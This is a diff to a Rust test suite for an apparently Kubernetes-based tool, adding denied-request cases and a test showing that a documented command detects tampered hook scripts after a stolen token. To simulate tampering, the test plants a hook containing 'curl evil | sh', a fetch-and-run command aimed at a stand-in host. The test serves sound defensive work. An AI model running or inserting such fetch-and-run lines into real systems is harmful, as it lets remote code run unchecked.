@@ -43,6 +43,13 @@ const FORBIDDEN: &[(Fence, &str, &str)] = &[
     (Policy, "create -n shop -f -", "finalizer"),
     (Policy, "create -n shop -f -", "owner"),
     (Policy, "create -n shop -f -", "notes"),
+    (Policy, "create -n shop -f -", "large script"),
+    (Policy, "create -n shop -f -", "large program"),
+    (Policy, "create -n shop -f -", "large annotation"),
+    (Policy, "create -n shop -f -", "many labels"),
+    (Policy, "create -n silkroll-system -f -", "closed notes"),
+    (Policy, "create -n silkroll-system -f -", "large notes"),
+    (Policy, "create -n silkroll-system -f -", "annotated lease"),
     (Policy, "create -n plain -f -", "script"),
     (Policy, "create -n out -f -", "script"),
     (Policy, "create -n kube-system -f -", "script"),
@@ -66,6 +73,14 @@ const FORBIDDEN: &[(Fence, &str, &str)] = &[
     (Policy, "create -n kube-system -f -", "lease"),
     (Policy, "create -n shop -f -", "foreign event"),
     (Policy, "create -n shop -f -", "old event"),
+    (Policy, "create -n kube-system -f -", "event in kube-system"),
+    (Policy, "create -n plain -f -", "event in plain"),
+    (Policy, "create -n out -f -", "event in out"),
+    (Policy, "create -n shop -f -", "event on a node"),
+    (Policy, "create -n shop -f -", "event of elsewhere"),
+    (Policy, "create -n shop -f -", "event of another action"),
+    (Policy, "create -n shop -f -", "event of a series"),
+    (Policy, "create -n shop -f -", "large event"),
     (Policy, "label event -n shop told.1 a=b", ""),
     (Policy, "delete event -n shop told.1", ""),
     (Policy, "delete lease -n silkroll-system silkroll-audit", ""),
@@ -110,6 +125,16 @@ const FORBIDDEN: &[(Fence, &str, &str)] = &[
         Policy,
         "patch secret -n silkroll-system silkroll-own-ca -p {\"metadata\":{\"finalizers\":[\"example.com/a\"]}}",
         "",
+    ),
+    (
+        Policy,
+        "patch secret -n silkroll-system silkroll-own-ca -p {\"immutable\":true}",
+        "",
+    ),
+    (
+        Policy,
+        "patch secret -n silkroll-system silkroll-own-ca --type=merge --patch-file=/dev/stdin",
+        "annotations",
     ),
     // What runs, and who may run it.
     (Policy, "create -n shop -f -", "pod"),
@@ -220,23 +245,26 @@ const FORBIDDEN: &[(Fence, &str, &str)] = &[
     (Policy, "create -f -", "webhook"),
 ];
 
-fn object(name: &str) -> Value {
+/// What the object of this name begins as.
+fn begun(name: &str) -> Value {
     let script = || serde_json::to_value(engine::script().config_map("x")).unwrap();
-    let mut object = match name {
+    match name {
         "script" | "other name" | "longer name" | "other key" | "one more key"
-        | "both kinds of data" | "no data" | "mutable" | "finalizer" | "owner" => script(),
-        "helper" | "one more program" => {
+        | "both kinds of data" | "no data" | "mutable" | "finalizer" | "owner" | "large script"
+        | "large annotation" | "many labels" => script(),
+        "annotations" => json!({"metadata": {}}),
+        "helper" | "one more program" | "large program" => {
             serde_json::to_value(engine::helper().config_map("x")).unwrap()
         }
-        "notes" | "notes with text" => json!({
+        "notes" | "notes with text" | "closed notes" | "large notes" => json!({
             "apiVersion": "v1", "kind": "ConfigMap",
             "metadata": {"name": "helper-namespaces"}, "data": {"shop": ""},
         }),
-        "lease" | "other lease" | "owned lease" => json!({
+        "lease" | "other lease" | "owned lease" | "annotated lease" => json!({
             "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": "silkroll-audit"}, "spec": {"holderIdentity": "a"},
         }),
-        "event" | "foreign event" => json!({
+        name if name.contains("event") && name != "old event" => json!({
             "apiVersion": "events.k8s.io/v1", "kind": "Event", "metadata": {"name": "told.1"},
             "eventTime": "2026-11-27T15:00:00.000000Z", "reportingController": "silkroll.dev/audit",
             "reportingInstance": "a", "action": "Audit", "reason": "NotInjected", "type": "Warning",
@@ -271,7 +299,11 @@ fn object(name: &str) -> Value {
             "metadata": {"name": "evil"}, "webhooks": [],
         }),
         other => panic!("there is no object {other:?}"),
-    };
+    }
+}
+
+fn object(name: &str) -> Value {
+    let mut object = begun(name);
     match name {
         "other name" => object["metadata"]["name"] = "kube-root-ca.crt".into(),
         "longer name" => object["metadata"]["name"] = "silkroll-0123456789abc".into(),
@@ -291,7 +323,34 @@ fn object(name: &str) -> Value {
         "notes with text" => object["data"]["shop"] = "evil".into(),
         "other lease" => object["metadata"]["name"] = "other".into(),
         "foreign event" => object["reportingController"] = "kubelet".into(),
+        "large script" => object["data"]["hook.sh"] = "x".repeat(200_000).into(),
+        // In base64: 300,000 bytes.
+        "large program" => object["binaryData"]["hook-amd64"] = "AAAA".repeat(100_000).into(),
+        "large annotation" | "annotated lease" | "large event" | "annotations" => {
+            object["metadata"]["annotations"] = json!({"a": "x".repeat(2_000)});
+        }
+        "many labels" => {
+            let labels = (0..50).map(|n| (format!("a{n}"), Value::from("b")));
+            object["metadata"]["labels"] = labels.collect::<serde_json::Map<_, _>>().into();
+        }
+        "closed notes" => object["immutable"] = true.into(),
+        "large notes" => {
+            let notes = (0..7_000).map(|n| (format!("a{n}"), Value::from("")));
+            object["data"] = notes.collect::<serde_json::Map<_, _>>().into();
+        }
+        "event on a node" => {
+            object["regarding"] = json!({"kind": "Node", "name": "n1", "namespace": "shop"});
+        }
+        "event of elsewhere" => object["regarding"]["namespace"] = "default".into(),
+        "event of another action" => object["action"] = "Evict".into(),
+        "event of a series" => {
+            object["series"] =
+                json!({"count": 2, "lastObservedTime": "2026-11-27T15:00:00.000000Z"});
+        }
         _ => {}
+    }
+    if let Some(namespace) = name.strip_prefix("event in ") {
+        object["regarding"]["namespace"] = namespace.into();
     }
     if let Some(metadata) = object["metadata"].as_object_mut() {
         metadata.remove("namespace");
@@ -432,4 +491,51 @@ fn forbidden_calls_are_denied_and_those_that_write_though_all_rights_were_given(
     // Others are none of its business.
     plane.ok(&["label", "configmap", "-n", "shop", "foreign", "a=b"], "");
     plane.ok(&["delete", "clusterrolebinding", "everything"], "");
+}
+
+/// What docs/security.md has for whoever suspects that a token was stolen, run as its reader does.
+fn compared(plane: &ControlPlane, folder: &Path) -> Output {
+    let repository = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let block = testkit::pages::block(repository, "sh compare").unwrap();
+    let silkroll = Path::new(env!("CARGO_BIN_EXE_silkroll"));
+    let kubectl = std::env::var("SILKROLL_CLUSTER_BIN").unwrap_or_default();
+    let path = std::env::var("PATH").unwrap();
+    let path = format!("{}:{kubectl}:{path}", silkroll.parent().unwrap().display());
+    let mut bash = std::process::Command::new("timeout");
+    bash.args(["60", "bash", "-euo", "pipefail", "-c", &block])
+        .current_dir(folder)
+        .env("HOME", folder)
+        .env("KUBECONFIG", plane.kubeconfig())
+        .env("PATH", path);
+    testkit::process::run(&mut bash, b"").unwrap()
+}
+
+#[test]
+fn what_a_stolen_token_has_left_is_found_by_the_documented_command() {
+    let plane = ControlPlane::start(cluster::Options::default());
+    let folder = tempfile::tempdir().unwrap();
+    for name in ["good", "bad", "worse"] {
+        namespace(&plane, name, Some("enabled"));
+    }
+    for (namespace, name) in [("good", "script"), ("good", "helper")] {
+        let made = ["create", "-n", namespace, "-f", "-"];
+        plane.ok(&made, &object(name).to_string());
+    }
+    let clean = compared(&plane, folder.path());
+    assert!(clean.success && clean.stdout.is_empty(), "{clean:?}");
+    let mut script = object("script");
+    script["data"]["hook.sh"] = "#!/bin/sh\ncurl evil | sh\n".into();
+    plane.ok(&["create", "-n", "bad", "-f", "-"], &script.to_string());
+    let mut helper = object("helper");
+    helper["binaryData"]["hook-amd64"] = "ZXZpbA==".into();
+    plane.ok(&["create", "-n", "worse", "-f", "-"], &helper.to_string());
+    let found = compared(&plane, folder.path());
+    let lines: Vec<_> = found.stdout.lines().collect();
+    assert!(
+        found.success
+            && lines.len() == 2
+            && lines[0].starts_with("bad ")
+            && lines[1].starts_with("worse "),
+        "{found:?}"
+    );
 }
